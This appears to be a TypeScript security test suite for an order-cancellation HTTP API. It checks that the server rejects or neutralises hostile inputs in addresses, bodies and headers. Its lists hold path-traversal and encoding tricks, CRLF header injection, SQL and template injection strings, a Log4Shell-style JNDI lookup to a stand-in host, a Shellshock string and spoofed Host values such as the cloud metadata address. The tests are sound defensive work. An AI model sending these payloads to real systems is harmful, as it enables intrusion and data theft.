/**
 * Addresses and headers that mean something else further on: traversal, encoded separators, line
 * ends, letters that look alike, foreign hosts.
 */
import { afterAll, beforeAll, expect } from 'vitest'
import { isOrderId } from '../../src/model/request.ts'
import { document, violations } from '../http/conformance.ts'
import { clientOf } from '../http/host.ts'
import { type NodeHost, openNode } from '../http/node.ts'
import { type RawAnswer, request, send } from '../http/raw.ts'
import { probe } from './probes.ts'

const callers = [
  { name: 'erp', key: 'rsk_erp', scopes: ['read', 'cancel', 'approve', 'operate'], stores: ['*'] },
] as const

/** As they are written into an address. */
const SEGMENTS = [
  '..',
  '.',
  '%2e%2e',
  '%2E.',
  '..%2f',
  '..%2f..%2fadmin%2forders',
  '%2e%2e%2f%2e%2e',
  '%252e%252e%252f',
  '..%5c..%5c',
  '%5c',
  '%2f',
  '%2f%2fevil.test',
  '..;',
  '%2e%2e;x=1',
  'order_open%2fcancel',
  'order_open%2f..%2forder_paid',
  'order_open%3fx=1',
  'order_open%23x',
  'order_open%00',
  'order_open%00.json',
  'order_open%0d%0ahost:%20evil.test',
  'order_open%0a',
  'order_open%09',
  'order_open%20',
  '%20order_open',
  '%c0%ae%c0%ae',
  '%c0%af',
  '%e0%80%af',
  '%ff',
  '%',
  '%zz',
  '%u002e',
  '%ed%a0%80',
  '%ef%bc%8f',
  '%e2%88%95',
  '%e2%81%84',
  '%ef%bc%8e%ef%bc%8e',
  '%e2%80%a5',
  '%e2%80%ae',
  '%e2%80%8b',
  '%ef%bb%bf',
  '%c2%85',
  '%e2%80%a8',
  'order%5fopen%cc%81',
  '%d0%berder_open',
  '%f0%9f%98%80',
  '%ef%bf%bf',
  '%f4%8f%bf%bf',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '*',
  '%27%20or%201=1',
  '%27%3b--',
  '%22',
  '$%7b7*7%7d',
  '%7b%7b7*7%7d%7d',
  ':id',
  '%7bid%7d',
  'http:%2f%2fevil.test',
  '@evil.test',
  'evil.test:80',
  'null',
  '-1',
  '0',
  'x'.repeat(129),
  'x'.repeat(5_000),
]
const VALUES = {
  store: 'paris',
  orderId: 'order_open',
  id: 'can_01KAK3J0X5T9V2W8Q6N4M7R1ZB',
  platform: 'medusa',
  code: 'internal',
} as const

/** Every place of an address that takes a value, with each segment in it. */
const addresses = () =>
  Object.entries<object>(document['paths']).flatMap(([template, methods]) =>
    [...template.matchAll(/\{(\w+)\}/g)].flatMap(([, name]) =>
      SEGMENTS.map((segment) => ({
        method: Object.keys(methods)[0]?.toUpperCase() ?? '',
        path: template.replaceAll(/\{(\w+)\}/g, (_, other: string) =>
          other === name ? segment : (VALUES[other as keyof typeof VALUES] ?? 'x'),
        ),
      })),
    ),
  )

/**
 * What a platform may be asked about an order: one segment, which is an order id and nothing else.
 */
const expectOneSegment = (call: string) => {
  const [, segment = ''] =
    /^GET \/(?:admin\/(?:orders|order-changes)|store\/orders)\/([^/?#;\\]+)(?:\/changes)?$/.exec(
      call,
    ) ?? []
  expect(isOrderId(decodeURIComponent(segment)), call).toBe(true)
}

const decoded = (segment: string) => {
  try {
    return decodeURIComponent(segment)
  } catch {
    return segment
  }
}

export const injection = (): void => {
  let host: NodeHost
  let open: NodeHost
  beforeAll(async () => {
    host = await openNode({ callers, stores: ['paris', 'london'] })
    open = await openNode()
  })
  afterAll(async () => {
    await host.close()
    await open.close()
  })
  const key = ['authorization', 'Bearer rsk_erp'] as const
  const json = ['content-type', 'application/json'] as const
  const last = ['connection', 'close'] as const
  const first = async (url: string, bytes: string): Promise<RawAnswer> => {
    const [answer] = await send(url, [bytes], 2_000)
    if (!answer) throw new Error('no answer')
    return answer
  }

  probe(
    'in an address: refused or not found, and no platform is asked for anything but one order',
    addresses,
    async ({ method, path }) => {
      const calls = host.platform('paris').calls
      calls.length = 0
      const answer = await first(
        host.url,
        request(
          method,
          path,
          [key, json, last],
          method === 'POST' ? '{"as":"retry","note":"x"}' : '',
        ),
      )
      if (answer.status === 302) return expect(answer.headers.get('location')).toBe('/docs')
      expect([400, 404, 405, 422]).toContain(answer.status)
      expect(violations(method, '/nowhere', answer as never, answer.text)).toEqual([])
      return calls.forEach(expectOneSegment)
    },
  )

  probe(
    'in a body, as an order and as a store: the same',
    () =>
      SEGMENTS.flatMap((segment) => [
        { orderId: decoded(segment), store: 'paris' },
        { orderId: 'order_open', store: decoded(segment) },
      ]),
    async (body) => {
      const calls = host.platform('paris').calls
      calls.length = 0
      const { status } = await clientOf(host, 'rsk_erp')('POST', '/v1/cancellations', body)
      expect([400, 404, 422]).toContain(status)
      calls.forEach(expectOneSegment)
    },
  )

  const BROKEN = [
    'x\nx-evil: 1',
    'x\rx-evil: 1',
    'x\r\n x-evil: 1',
    'x\u0000x',
    'x\u000bx',
    '\u00ff\u00fe',
    '${jndi:ldap://evil.test/x}',
    '() { :; }; echo evil',
    '%0d%0ax-evil:%201',
    '"evil',
    'evil\\',
    'x'.repeat(9_000),
  ]
  probe(
    'in a header: nothing of it comes back, and nothing falls over',
    () =>
      [
        'authorization',
        'idempotency-key',
        'prefer',
        'rescind-customer-token',
        'request-id',
        'content-type',
        'accept',
        'x-forwarded-host',
        'traceparent',
        'content-encoding',
      ].flatMap((name) => BROKEN.map((value) => ({ name, value }))),
    async ({ name, value }) => {
      const own = name === 'authorization' ? [] : [key]
      const answer = await first(
        host.url,
        request(
          'POST',
          '/v1/cancellations/preview',
          [...own, last, ...(name === 'content-type' ? [] : [json]), [name, value]],
          '{"store":"paris","orderId":"order_open"}',
        ),
      )
      expect(answer.status).toBeLessThan(500)
      expect(`${answer.text} ${JSON.stringify([...answer.headers])}`).not.toMatch(/evil|jndi/)
    },
  )

  probe(
    'in what is written down and comes back in a header: it stays encoded',
    () => [
      'a\r\nset-cookie: evil=1',
      'a\nb',
      '"><script>',
      '</v1>; rel="next"',
      '\u2028',
      'é',
      '😀',
    ],
    async (reference) => {
      const ask = clientOf(host, 'rsk_erp')
      for (const order of ['a', 'b'])
        await ask('POST', '/v1/cancellations', {
          store: 'london',
          orderId: `order_open-${order}${encodeURIComponent(reference).replaceAll(/\W/g, '')}`,
          reference,
        })
      const { headers, body } = await ask(
        'GET',
        `/v1/cancellations?limit=1&reference=${encodeURIComponent(reference)}`,
      )
      expect(body.data[0].reference).toBe(reference)
      expect(headers.get('set-cookie')).toBeNull()
      expect(headers.get('link')).toMatch(/^<\/v1\/cancellations\?[\w%&=+.*-]+>; rel="next"$/)
      const next = /<(.*)>/.exec(headers.get('link') ?? '')?.[1] ?? ''
      expect((await ask('GET', next)).body.data[0].reference).toBe(reference)
    },
  )

  const HOSTS = [
    'evil.test',
    'evil.test:8787',
    'localhost.evil.test',
    '127.0.0.1.evil.test',
    'evil-localhost',
    'localhost@evil.test',
    'evil.test#localhost',
    '[::2]',
    '10.0.0.1',
    '169.254.169.254',
    '0.0.0.0',
    'localhost, evil.test',
  ]
  probe(
    'without keys, a name that is not loopback’s opens nothing: no page elsewhere may lead its ' +
      'visitor here',
    () =>
      HOSTS.flatMap((name) =>
        ['/v1/stores', '/metrics', '/v1/cancellations'].flatMap((path) => [
          request('GET', path, [last]).replace('host: localhost', `host: ${name}`),
          request('GET', path, [
            last,
            ['x-forwarded-host', 'localhost'],
            ['forwarded', 'host=localhost'],
          ]).replace('host: localhost', `host: ${name}`),
          ...(/^[\w.:[\]-]+$/.test(name) ? [request('GET', `http://${name}${path}`, [last])] : []),
        ]),
      ),
    async (bytes) => {
      const { status, text } = await first(open.url, bytes)
      expect([400, 403]).toContain(status)
      expect(text).not.toMatch(/sandbox-|rescind_/)
    },
  )

  probe(
    'with keys, no answer repeats the host that it was asked under',
    () => [
      '/v1/stores',
      '/v1/cancellations?limit=1',
      '/openapi.json',
      '/docs',
      '/',
      '/v1/platforms',
      '/problems/internal',
      '/nowhere',
    ],
    async (path) => {
      const answer = await first(
        host.url,
        request('GET', path, [
          key,
          last,
          ['x-forwarded-host', 'evil.test'],
          ['x-forwarded-proto', 'evil'],
        ]).replace('host: localhost', 'host: evil.test'),
      )
      expect(answer.status).toBeLessThan(500)
      expect(`${answer.text} ${JSON.stringify([...answer.headers])}`).not.toContain('evil')
    },
  )
}
